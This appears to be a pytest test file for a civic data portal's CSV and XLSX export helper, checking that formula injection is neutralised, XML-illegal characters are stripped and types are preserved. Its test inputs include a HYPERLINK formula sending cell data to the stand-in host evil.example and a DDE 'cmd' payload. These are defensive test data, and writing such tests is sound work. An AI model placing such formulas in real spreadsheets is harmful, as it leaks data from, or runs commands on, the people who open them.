"""The shared safe tabular writer (domain.tabular): formula injection, XML-illegal
characters, BOM, streaming, XLSX in write-only mode."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from ckanext.lutsk.domain import tabular

EVIL = '=HYPERLINK("https://evil.example/?x="&A2,"Open")'


@pytest.mark.parametrize(
    "text",
    [EVIL, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "=1"],
)
def test_formula_text_is_neutralised(text):
    out = tabular.safe_cell(text)
    assert out.startswith("'")
    assert not tabular.is_live_formula(out)


@pytest.mark.parametrize("value", [0, -5, 3.25, True, dt.date(2026, 1, 2), dt.datetime(2026, 1, 2, 3, 4)])
def test_numbers_and_dates_untouched(value):
    assert tabular.safe_cell(value) is value


def test_plain_text_and_negative_number_text_stay():
    assert tabular.safe_cell("Бюджет громади") == "Бюджет громади"
    assert tabular.safe_cell("-12.5") == "-12.5"
    assert tabular.safe_cell(None) is None


def test_xml_illegal_characters_removed():
    assert tabular.safe_cell("a\x0bb\x00c\ud800d\ufffe") == "abcd"
    assert tabular.safe_cell("line\nnext\ttab") == "line\nnext\ttab"
    # removing a control may not leave a formula start
    assert tabular.safe_cell("\x0b=1+1") == "'=1+1"


def test_csv_lines_stream_with_bom_first():
    rows = iter([[EVIL, 1], ["ok", None]])
    lines = tabular.csv_lines(["Назва", "N"], rows)
    first = next(lines)
    assert first == "\ufeffНазва,N\r\n"
    rest = list(lines)
    assert len(rest) == 2
    parsed = list(csv.reader(io.StringIO("".join([first, *rest]).lstrip("\ufeff"))))
    assert parsed[1][0] == "'" + EVIL
    assert parsed[2] == ["ok", ""]


def test_csv_bytes_empty_is_just_bom():
    assert tabular.csv_bytes(None, []) == "\ufeff".encode()


def test_xlsx_has_no_live_formula_and_keeps_types():
    when = dt.datetime(2026, 3, 1, 10, 0, tzinfo=dt.timezone(dt.timedelta(hours=2)))
    data = tabular.xlsx_bytes(
        [
            tabular.Sheet(
                "Реєстр: [1]/2?",
                ["title", "n", "date", "when"],
                ([EVIL, 5, dt.date(2026, 1, 2), when], ["a\x0bb", None, None, None]),
                widths=[40, 5],
                intro=["Заголовок", "=2+2"],
            ),
            tabular.Sheet("Реєстр: [1]/2?", ["x"], []),
        ]
    )
    wb = load_workbook(io.BytesIO(data))
    assert len(wb.sheetnames) == 2 and len(set(wb.sheetnames)) == 2
    ws = wb.worksheets[0]
    for row in ws.iter_rows():
        for cell in row:
            assert cell.data_type != "f"
            assert not tabular.is_live_formula(cell.value)
    assert ws["A2"].value == "'=2+2"
    assert ws["A5"].value == "'" + EVIL
    assert ws["B5"].value == 5
    assert ws["C5"].value == dt.datetime(2026, 1, 2)
    assert ws["D5"].value == dt.datetime(2026, 3, 1, 10, 0)
    assert ws["A6"].value == "ab"
    assert ws.freeze_panes == "A5"
    assert ws.auto_filter.ref == "A4:D6"
